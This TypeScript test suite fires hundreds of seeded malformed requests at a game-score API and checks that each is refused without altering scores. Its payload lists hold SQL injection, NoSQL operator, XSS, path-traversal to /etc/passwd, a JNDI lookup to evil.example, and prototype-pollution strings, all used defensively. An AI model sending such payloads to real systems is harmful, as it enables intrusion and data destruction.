// Hundreds of deterministic (seeded) malformed requests against the score API, in both run modes.
// Every one must be a 4xx with the error envelope (never a 5xx), none may change a score or add a
// history row, and the server must still apply a valid update afterwards.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { signAction } from '../../src/scores/signature.js';
import { FAST_ACTIONS, MODES, TEST_HMAC_KEY, actionsFile, createTestApp, type TestApp } from '../helpers/app.js';
import { prng } from '../helpers/random.js';
import { envelopeViolation as violation } from '../helpers/design.js';


const SEED = 0x5c0b0a2d;
const PLAYER = 'hostile-player';
const UPDATE_URL = '/api/v1/scores/update';
const FIELDS = ['actionId', 'actionType', 'scoreIncrement', 'timestamp', 'clientSignature'] as const;
type Field = (typeof FIELDS)[number];


interface Hostile {
  family: string;
  label: string;
  method: 'GET' | 'POST';
  url: string;
  headers: Record<string, string>;
  payload?: string | Buffer;
}

type Body = Record<string, unknown>;

const INJECTIONS = [
  "'; DROP TABLE scores; --",
  '{"$gt": ""}',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '%00',
  '" OR "1"="1',
  '${jndi:ldap://evil.example/a}',
  "admin' --",
  '\\u0000\\x00',
];

const UNICODE = [
  '🏆🎮🔥',
  '\u202eETELPMOC_KSAT',
  '\u0000',
  'TASK_COMPLETE\u0000',
  '\ud800',
  '\udfff\ud800',
  'e\u0301\u0301\u0301',
  '\ufeffTASK_COMPLETE',
  'TASK\u200dCOMPLETE',
  'ＴＡＳＫ＿ＣＯＭＰＬＥＴＥ',
  '\u0661\u0660',
  'Z̸̡̢͓͎a̴͚͙l̷g̶o̵',
];

const WRONG_TYPES: unknown[] = [null, true, false, 0, -1, 1.5, [], ['x'], {}, { a: 1 }, '', '10'];

const HUGE_LITERALS = [
  '1e308',
  '-1e308',
  '9007199254740993',
  '1' + '0'.repeat(400),
  '-' + '9'.repeat(500),
  '1E400',
  '1e-400',
  '-0',
  '123456789012345678901234567890.5',
  '0.' + '0'.repeat(300) + '1',
];

const NAN_STRINGS = ['NaN', 'Infinity', '-Infinity', '0x10', '1e3', ' 10', '10 ', '١٠', '+10', '10n'];
const NAN_LITERALS = ['NaN', 'Infinity', '-Infinity', '0x10', '010', '+10', '.5', 'undefined'];

async function storedState(t: TestApp) {
  const rows = await t.backends.sql.query('SELECT user_id, score, total_actions FROM scores ORDER BY user_id');
  const [count] = await t.backends.sql.query('SELECT count(*)::bigint AS n FROM score_history');
  return {
    scores: rows.map((row) => ({ userId: String(row.user_id), score: Number(row.score), totalActions: Number(row.total_actions) })),
    history: Number(count?.n),
  };
}

/** Builds every hostile request from the seed; `token` is the player's valid token. */
function generate(token: string, seed: number): Hostile[] {
  const rng = prng(seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(rng() * items.length)]!;
  const uuid = () => {
    const hex = Array.from({ length: 32 }, () => Math.floor(rng() * 16).toString(16)).join('');
    return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-${'89ab'[Math.floor(rng() * 4)]}${hex.slice(17, 20)}-${hex.slice(20, 32)}`;
  };
  const sign = (body: Body) =>
    signAction(TEST_HMAC_KEY, {
      actionId: String(body.actionId),
      actionType: String(body.actionType),
      scoreIncrement: body.scoreIncrement as number,
      timestamp: String(body.timestamp),
    });
  /** A valid, correctly signed body that is never sent as it is. */
  const valid = (): Body => {
    const body: Body = { actionId: uuid(), actionType: pick(['TASK_COMPLETE', 'ACHIEVEMENT']), scoreIncrement: 1 + Math.floor(rng() * 50), timestamp: new Date().toISOString() };
    return { ...body, clientSignature: sign(body) };
  };
  const resigned = (body: Body): Body => ({ ...body, clientSignature: sign(body) });
  const auth = { authorization: `Bearer ${token}` };
  const json = { ...auth, 'content-type': 'application/json' };

  const out: Hostile[] = [];
  const post = (family: string, label: string, payload: string | Buffer, headers: Record<string, string> = json) =>
    out.push({ family, label, method: 'POST', url: UPDATE_URL, headers, payload });
  const postBody = (family: string, label: string, body: unknown) => post(family, label, JSON.stringify(body));
  const getUrl = (family: string, label: string, url: string, headers: Record<string, string> = auth) => out.push({ family, label, method: 'GET', url, headers });

  // Wrong types in every field, with the signature of the untouched body.
  for (const field of FIELDS) {
    for (const value of WRONG_TYPES) postBody('wrong-type', `${field}=${JSON.stringify(value)}`, { ...valid(), [field]: value });
    postBody('wrong-type', `${field} missing`, Object.fromEntries(Object.entries(valid()).filter(([key]) => key !== field)));
  }
  // Numbers for strings and strings for numbers, re-signed so that only the type is wrong.
  for (const field of ['actionId', 'actionType', 'timestamp'] as const) postBody('wrong-type', `${field} as a number (signed)`, resigned({ ...valid(), [field]: 12345 }));
  postBody('wrong-type', 'scoreIncrement as a string (signed)', resigned({ ...valid(), scoreIncrement: '10' }));

  // Huge and odd numbers, as raw JSON text, with the original signature and re-signed over the parsed value.
  for (const literal of HUGE_LITERALS) {
    for (const field of ['scoreIncrement', 'actionId', 'timestamp'] as const) {
      const body = valid();
      const marker = '"__HUGE__"';
      post('huge-number', `${field}=${literal.slice(0, 24)}`, JSON.stringify({ ...body, [field]: '__HUGE__' }).replace(marker, literal));
    }
    const body = valid();
    const parsed = JSON.parse(literal) as number;
    const signed = resigned({ ...body, scoreIncrement: parsed });
    post('huge-number', `scoreIncrement=${literal.slice(0, 24)} (signed)`, JSON.stringify({ ...signed, scoreIncrement: '__HUGE__' }).replace('"__HUGE__"', literal));
  }
  for (const value of [Number.MAX_SAFE_INTEGER + 2, 2 ** 53, -(2 ** 53), Number.MIN_VALUE, Number.MAX_VALUE]) {
    postBody('huge-number', `scoreIncrement=${value} (signed)`, resigned({ ...valid(), scoreIncrement: value }));
  }

  // NaN-like strings and literals.
  for (const text of NAN_STRINGS) postBody('nan-like', `scoreIncrement="${text}" (signed)`, resigned({ ...valid(), scoreIncrement: text }));
  for (const literal of NAN_LITERALS) post('nan-like', `scoreIncrement=${literal} literal`, JSON.stringify({ ...valid(), scoreIncrement: '__X__' }).replace('"__X__"', literal));

  // Unicode in every string field: replacing the value, appended to it, and re-signed.
  for (const field of ['actionId', 'actionType', 'timestamp', 'clientSignature'] as const) {
    for (const text of UNICODE) {
      postBody('unicode', `${field}=${JSON.stringify(text)}`, { ...valid(), [field]: text });
      const body = valid();
      const appended = { ...body, [field]: `${String(body[field])}${text}` };
      // Re-signed over the tainted value, except the signature itself, which is what is tainted.
      if (field === 'clientSignature') postBody('unicode', `${field}+=${JSON.stringify(text)}`, appended);
      else postBody('unicode', `${field}+=${JSON.stringify(text)} (signed)`, resigned(appended));
    }
  }
  // Lone surrogates and NUL written as JSON escapes, exactly as a hostile client would type them.
  for (const escape of ['\\ud800', '\\udfff', '\\u0000', '\\ud83c', '\\udc00\\ud800']) {
    for (const field of ['actionId', 'actionType', 'timestamp', 'clientSignature'] as const) {
      post('unicode', `${field} escape ${escape}`, JSON.stringify({ ...valid(), [field]: '__U__' }).replace('__U__', escape));
    }
  }

  // Injection strings in every body field, raw and re-signed; and as objects.
  for (const field of FIELDS) {
    for (const text of INJECTIONS) {
      postBody('injection', `${field}=${text}`, { ...valid(), [field]: text });
      if (field !== 'clientSignature') postBody('injection', `${field}=${text} (signed)`, resigned({ ...valid(), [field]: text }));
    }
    postBody('injection', `${field}={$gt:""}`, { ...valid(), [field]: { $gt: '' } });
    postBody('injection', `${field}={$ne:null}`, { ...valid(), [field]: { $ne: null } });
  }

  // Injection, unicode and broken encodings in path parameters.
  const pathValues = [...INJECTIONS, '🏆', '\u202e', 'nobody\u0000', 'a'.repeat(129), '.', '..', '%2e%2e'];
  for (const text of pathValues) {
    const encoded = encodeURIComponent(text);
    getUrl('path', `user/${text.slice(0, 30)}`, `/api/v1/scores/user/${encoded}`);
    getUrl('path', `user/${text.slice(0, 30)}/history`, `/api/v1/scores/user/${encoded}/history`);
    out.push({ family: 'path', label: `admin freeze ${text.slice(0, 30)}`, method: 'POST', url: `/api/v1/admin/users/${encoded}/freeze`, headers: json, payload: '{"reason":"x"}' });
  }
  for (const raw of ['%', '%ZZ', '%E0%A4%A', '%ED%A0%80', '%C0%AE%C0%AE', 'u'.repeat(101), 'u'.repeat(128)]) {
    getUrl('path', `raw user/${raw.slice(0, 20)}`, `/api/v1/scores/user/${raw}`);
  }
  getUrl('path', 'user/../../etc/passwd (raw)', '/api/v1/scores/user/../../etc/passwd');
  getUrl('path', 'user without a token', `/api/v1/scores/user/${encodeURIComponent(INJECTIONS[0]!)}`, {});

  // Hostile query strings.
  for (const query of [
    `limit=${encodeURIComponent(INJECTIONS[0]!)}`,
    'limit=1e308',
    'limit=-1',
    'limit=NaN',
    'offset=99999999999',
    'offset=1.5',
    'limit=%00',
    'limit=1&limit=2',
    `offset=${'9'.repeat(400)}`,
  ]) {
    getUrl('query', `leaderboard?${query.slice(0, 40)}`, `/api/v1/scores/leaderboard?${query}`, {});
  }
  for (const query of ['since=yesterday', `since=${encodeURIComponent(INJECTIONS[2]!)}`, 'since=2024-13-45T99:99:99Z']) {
    getUrl('query', `changes?${query.slice(0, 40)}`, `/api/v1/scores/leaderboard/changes?${query}`, {});
  }
  for (const query of ['limit=0', 'limit=abc', 'before=-1', 'before=abc', 'before=1e400', 'before=Infinity', 'before=99999999999999999999', 'before=9223372036854775807', `limit=${encodeURIComponent('{"$gt":""}')}`]) {
    getUrl('query', `history?${query.slice(0, 40)}`, `/api/v1/scores/user/${PLAYER}/history?${query}`);
  }

  // Bad JSON.
  const text = JSON.stringify(valid());
  for (let i = 0; i < 25; i += 1) {
    const cut = 1 + Math.floor(rng() * (text.length - 2));
    post('bad-json', `truncated at ${cut}`, JSON.stringify(valid()).slice(0, cut));
  }
  for (const [label, payload] of [
    ['trailing comma', text.replace(/}$/, ',}')],
    ['trailing comma in an array', '[1,2,]'],
    ['single quotes', text.replace(/"/g, "'")],
    ['unquoted keys', text.replace(/"(\w+)":/g, '$1:')],
    ['a bare number', '42'],
    ['null', 'null'],
    ['true', 'true'],
    ['a bare string', '"TASK_COMPLETE"'],
    ['an empty array', '[]'],
    ['an array of the body', `[${text}]`],
    ['an empty body', ''],
    ['only whitespace', '   \n\t '],
    ['an opening brace', '{'],
    ['a closing brace', '}'],
    ['a key without a value', '{"actionId"}'],
    ['a comment', `/* hi */${text}`],
    ['two bodies', `${text}${text}`],
    ['a raw control character in a string', text.replace('TASK_COMPLETE', 'TASK\u0001COMPLETE').replace('ACHIEVEMENT', 'ACHIEVE\u0001MENT')],
    ['an invalid escape', text.replace(/"timestamp":"/, '"timestamp":"\\q')],
    ['a lone backslash', '{"actionId":"\\"}'],
    ['10,000-deep unclosed array', '['.repeat(10_000)],
    ['8,000-deep nested array (16,000 bytes)', '['.repeat(8_000) + ']'.repeat(8_000)],
    ['7,900-deep nested array in actionId', `{"actionId":${'['.repeat(7_900)}${']'.repeat(7_900)}}`],
    ['2,700-deep nested object', '{"a":'.repeat(2_700) + '1' + '}'.repeat(2_700)],
    ['1,500 keys', `{${Array.from({ length: 1_500 }, (_, i) => `"k${i}":${i}`).join(',')}}`],
    ['invalid UTF-8 bytes', Buffer.concat([Buffer.from('{"actionType":"'), Buffer.from([0xc3, 0x28, 0xff, 0xfe]), Buffer.from('"}')])],
  ] as [string, string | Buffer][]) {
    post('bad-json', label, payload);
  }

  // Wrong content types, each with an otherwise valid, correctly signed body.
  const form = (body: Body) => Object.entries(body).map(([key, value]) => `${key}=${encodeURIComponent(String(value))}`).join('&');
  const multipart = (body: Body) =>
    Object.entries(body).map(([key, value]) => `--XyZ\r\nContent-Disposition: form-data; name="${key}"\r\n\r\n${String(value)}\r\n`).join('') + '--XyZ--\r\n';
  const contentTypes: [string, (body: Body) => string | Buffer, string | undefined][] = [
    ['text/plain', (body) => JSON.stringify(body), 'text/plain'],
    ['application/x-www-form-urlencoded', form, 'application/x-www-form-urlencoded'],
    ['multipart/form-data', multipart, 'multipart/form-data; boundary=XyZ'],
    ['no content-type', (body) => JSON.stringify(body), undefined],
    ['application/json; charset=utf-16 (UTF-16LE bytes)', (body) => Buffer.from(JSON.stringify(body), 'utf16le'), 'application/json; charset=utf-16'],
    ['application/json; charset=utf-16 (BOM + UTF-16LE)', (body) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(JSON.stringify(body), 'utf16le')]), 'application/json; charset=utf-16'],
    ['text/json', (body) => JSON.stringify(body), 'text/json'],
    ['application/xml', (body) => `<update>${Object.entries(body).map(([k, v]) => `<${k}>${String(v)}</${k}>`).join('')}</update>`, 'application/xml'],
    ['application/octet-stream', (body) => JSON.stringify(body), 'application/octet-stream'],
    ['application/jsonx', (body) => JSON.stringify(body), 'application/jsonx'],
    ['application/json-patch+json', (body) => JSON.stringify(body), 'application/json-patch+json'],
    ['an 8 KiB content-type', (body) => JSON.stringify(body), `application/${'x'.repeat(8192)}`],
  ];
  for (const [label, encode, contentType] of contentTypes) {
    post('content-type', label, encode(valid()), contentType === undefined ? { ...auth } : { ...auth, 'content-type': contentType });
  }

  // Very long header values.
  const longUserAgent = 'Mozilla/5.0 '.padEnd(8192, 'A');
  post('headers', '8 KiB User-Agent, bad signature', JSON.stringify({ ...valid(), clientSignature: '0'.repeat(64) }), { ...json, 'user-agent': longUserAgent });
  post('headers', '8 KiB User-Agent, broken JSON', '{"actionId":', { ...json, 'user-agent': longUserAgent });
  post('headers', '8 KiB User-Agent of injections', JSON.stringify({ ...valid(), actionType: 'NOPE' }), { ...json, 'user-agent': INJECTIONS.join(' ').repeat(60).slice(0, 8192) });
  post('headers', '4 KiB Authorization of garbage', JSON.stringify(valid()), { 'content-type': 'application/json', authorization: `Bearer ${'a'.repeat(4089)}` });
  post('headers', '4 KiB Authorization without a scheme', JSON.stringify(valid()), { 'content-type': 'application/json', authorization: 'x'.repeat(4096) });
  post('headers', '4 KiB Authorization: the token plus padding', JSON.stringify(valid()), { 'content-type': 'application/json', authorization: `Bearer ${token}${'.AAAA'.repeat(700)}` });
  post('headers', '4 KiB Authorization: two tokens', JSON.stringify(valid()), { 'content-type': 'application/json', authorization: `Bearer ${token} ${token}`.padEnd(4096, ' x') });
  post('headers', '300-character X-Request-Id, bad body', '{}', { ...json, 'x-request-id': 'r'.repeat(300) });

  // Prototype pollution.
  for (const [label, payload] of [
    ['__proto__ at the top', `{"__proto__":{"isAdmin":true,"polluted":1},${text.slice(1)}`],
    ['__proto__ escaped', `{"\\u005f\\u005fproto__":{"isAdmin":true,"polluted":1},${text.slice(1)}`],
    ['constructor.prototype at the top', `{"constructor":{"prototype":{"isAdmin":true,"polluted":1}},${text.slice(1)}`],
    ['constructor escaped', `{"\\u0063onstructor":{"prototype":{"polluted":1}},${text.slice(1)}`],
    ['__proto__ in a field', JSON.stringify({ ...valid(), actionType: '__P__' }).replace('"__P__"', '{"__proto__":{"polluted":1}}')],
    ['__proto__: null', `{"__proto__":null,${text.slice(1)}`],
    ['prototype key', `{"prototype":{"polluted":1},${text.slice(1)}`],
  ] as [string, string][]) {
    post('prototype', label, payload);
  }

  // Duplicate keys: the last value wins, and it is never the one signed.
  {
    const body = valid();
    const inner = JSON.stringify(body).slice(1, -1);
    post('duplicate-keys', 'scoreIncrement then "10"', `{${inner},"scoreIncrement":"10"}`);
    post('duplicate-keys', 'scoreIncrement then 50 (signed for the first)', `{${inner},"scoreIncrement":50}`);
    post('duplicate-keys', 'actionId then another uuid', `{${inner},"actionId":"${uuid()}"}`);
    post('duplicate-keys', 'clientSignature then zeros', `{${inner},"clientSignature":"${'0'.repeat(64)}"}`);
    post('duplicate-keys', 'actionType then NOPE', `{${inner},"actionType":"NOPE"}`);
    post('duplicate-keys', 'timestamp then an old one', `{${inner},"timestamp":"2001-01-01T00:00:00.000Z"}`);
  }

  // No token at all.
  for (const [label, payload] of [
    ['valid body', JSON.stringify(valid())],
    ['broken JSON', '{"a":'],
    ['injection', JSON.stringify({ ...valid(), actionType: INJECTIONS[0] })],
    ['__proto__', `{"__proto__":{"isAdmin":true}}`],
    ['huge number', `{"scoreIncrement":${'9'.repeat(400)}}`],
  ] as [string, string][]) {
    post('no-token', label, payload, { 'content-type': 'application/json' });
  }

  // Random mutations: one to three fields set to hostile values, sometimes re-signed, a field dropped or added.
  const pool: unknown[] = [...WRONG_TYPES, ...INJECTIONS, ...UNICODE, 1e308, -1e308, 2 ** 53 + 1, { $gt: '' }, [[[]]]];
  for (let i = 0; i < 60; i += 1) {
    let body = valid();
    const count = 1 + Math.floor(rng() * 3);
    const changed: string[] = [];
    let signature: unknown;
    for (let j = 0; j < count; j += 1) {
      const field = pick(FIELDS);
      const value = pick(pool);
      if (field === 'clientSignature') signature = value;
      else body = { ...body, [field]: value };
      changed.push(field);
    }
    if (rng() < 0.4) body = resigned(body);
    // A tainted signature is applied last, so that re-signing never repairs it.
    if (signature !== undefined) body = { ...body, clientSignature: signature };
    if (rng() < 0.15) body = { ...body, [pick(['userId', 'score', 'isAdmin', '__x'])]: true };
    post('random', `#${i} ${changed.join(',')}`, JSON.stringify(body));
  }
  return out;
}

for (const { mode, skip } of MODES) {
  describe(`hostile input (${mode})`, { skip }, () => {
    let t: TestApp;
    let baseline: Awaited<ReturnType<typeof storedState>>;
    let baselineScore: number;
    const statuses = new Map<number, number>();
    const codes = new Map<string, number>();
    let sent = 0;
    let requests: Hostile[] = [];

    before(async () => {
      t = await createTestApp(mode, { ACTIONS_CONFIG: actionsFile(FAST_ACTIONS) });
      const first = await t.post(PLAYER, t.body({ scoreIncrement: 10 }));
      assert.equal(first.statusCode, 200, first.body);
      baselineScore = await t.scoreInDb(PLAYER);
      assert.equal(baselineScore, 10);
      baseline = await storedState(t);
      requests = generate(t.token(PLAYER), SEED);
    });
    after(() => t.close());

    async function run(families: string[]): Promise<void> {
      const selected = requests.filter((request) => families.includes(request.family));
      assert.ok(selected.length > 0);
      const problems: string[] = [];
      for (const request of selected) {
        const res = await t.app.inject({
          method: request.method,
          url: request.url,
          headers: request.headers,
          ...(request.payload === undefined ? {} : { payload: request.payload }),
        });
        sent += 1;
        statuses.set(res.statusCode, (statuses.get(res.statusCode) ?? 0) + 1);
        let code = '-';
        try {
          code = String((res.json() as { error?: { code?: unknown } }).error?.code ?? '-');
        } catch {
          code = 'not-json';
        }
        codes.set(code, (codes.get(code) ?? 0) + 1);
        const problem = violation(res);
        if (problem) problems.push(`[${request.family}] ${request.method} ${request.label}: ${problem}: ${res.body.slice(0, 160)}`);
      }
      assert.deepEqual(problems, [], `${problems.length} of ${selected.length} hostile requests were not refused properly:\n${problems.join('\n')}`);
    }

    it('generates at least 300 requests, the same ones for the same seed', () => {
      assert.ok(requests.length >= 300, `only ${requests.length} requests`);
      const again = generate(t.token(PLAYER), SEED);
      const shape = (list: Hostile[]) => list.map((request) => `${request.family}|${request.label}|${request.url}`);
      assert.deepEqual(shape(again), shape(requests));
    });

    it('refuses wrong types, huge numbers, NaN-likes, unicode, injections and random mutations in the body', async () => {
      await run(['wrong-type', 'huge-number', 'nan-like', 'unicode', 'injection', 'random']);
    });

    it('refuses bad JSON, wrong content types, prototype pollution and duplicate keys', async () => {
      await run(['bad-json', 'content-type', 'prototype', 'duplicate-keys']);
    });

    it('refuses long headers and requests without a token', async () => {
      await run(['headers', 'no-token']);
    });

    it('refuses hostile query strings', async () => {
      await run(['query']);
    });

    it('refuses injection, unicode and broken encodings in path parameters', async () => {
      await run(['path']);
    });

    it('changed no score and no history, polluted no prototype, and still applies a valid update', async () => {
      console.log(
        `hostile input (${mode}): ${sent} requests; status ${[...statuses].sort((a, b) => a[0] - b[0]).map(([s, n]) => `${s}x${n}`).join(' ')}; codes ${[...codes]
          .sort((a, b) => b[1] - a[1])
          .map(([c, n]) => `${c}x${n}`)
          .join(' ')}`,
      );
      assert.equal(await t.scoreInDb(PLAYER), baselineScore);
      assert.deepEqual(await storedState(t), baseline);
      const probe: Record<string, unknown> = {};
      assert.equal(probe.isAdmin, undefined, 'Object.prototype was polluted');
      assert.equal(probe.polluted, undefined, 'Object.prototype was polluted');

      const res = await t.post(PLAYER, t.body({ scoreIncrement: 5 }));
      assert.equal(res.statusCode, 200, res.body);
      assert.equal(res.json().data.newScore, baselineScore + 5);
      assert.equal(await t.scoreInDb(PLAYER), baselineScore + 5);
      assert.equal((await storedState(t)).history, baseline.history + 1);
    });

    it('never answers a forged X-Forwarded-For on a valid update with a 5xx', async () => {
      const user = 'hostile-xff';
      const problems: string[] = [];
      for (const forwarded of ['not-an-ip', "'; DROP TABLE scores; --", '999.1.1.1', '::ffff:zzz', 'garbage, 10.0.0.1', '<script>', '10.0.0.1']) {
        const before = await t.scoreInDb(user);
        const historyBefore = (await storedState(t)).history;
        const body = t.body({ scoreIncrement: 3 });
        const res = await t.post(user, body, { 'x-forwarded-for': forwarded });
        const after = await t.scoreInDb(user);
        const historyAfter = (await storedState(t)).history;
        if (res.statusCode >= 500) problems.push(`X-Forwarded-For "${forwarded}": ${res.statusCode} ${res.body.slice(0, 160)}`);
        if (res.statusCode === 200) {
          if (after !== before + 3 || historyAfter !== historyBefore + 1) problems.push(`X-Forwarded-For "${forwarded}": 200 but the score went ${before} -> ${after}`);
        } else if (after !== before || historyAfter !== historyBefore) {
          problems.push(`X-Forwarded-For "${forwarded}": ${res.statusCode} but the score went ${before} -> ${after}`);
        }
      }
      assert.deepEqual(problems, []);
    });
  });
}
